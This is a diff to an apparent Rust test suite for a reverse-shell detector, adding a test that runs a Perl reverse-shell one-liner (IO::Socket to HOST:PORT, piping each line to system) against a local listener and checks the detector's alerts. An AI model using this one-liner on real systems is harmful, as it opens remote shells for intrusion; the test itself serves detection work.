@@ -284,3 +284,21 @@ fn bash_that_reads_through_a_pipe() {
     assert_eq!(critical[0]["ppid"], child.id());
     assert_eq!(critical[0]["remote_port"], peer.address().port());
 }
+
+#[test]
+fn perl_that_runs_command_after_command() {
+    let code = "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"HOST:PORT\");\
+                STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;";
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &[]);
+    let peer = Peer::listen("127.0.0.1");
+    let mut child = spawn(&mut script("perl", "-e", code)(&bed, peer.address()));
+    let mut shell = peer.shell();
+    let expected = (child.id(), start_ticks(child.id()));
+    // "echo pid''=$$." needs a shell, which perl starts for each line.
+    let ran = [shell.pid(), shell.pid(), shell.pid()];
+    assert!(!ran.contains(&child.id()));
+    shell.exit_input();
+    child.wait().unwrap();
+    check(sentinel.stop().alerts, expected, peer.address());
+}
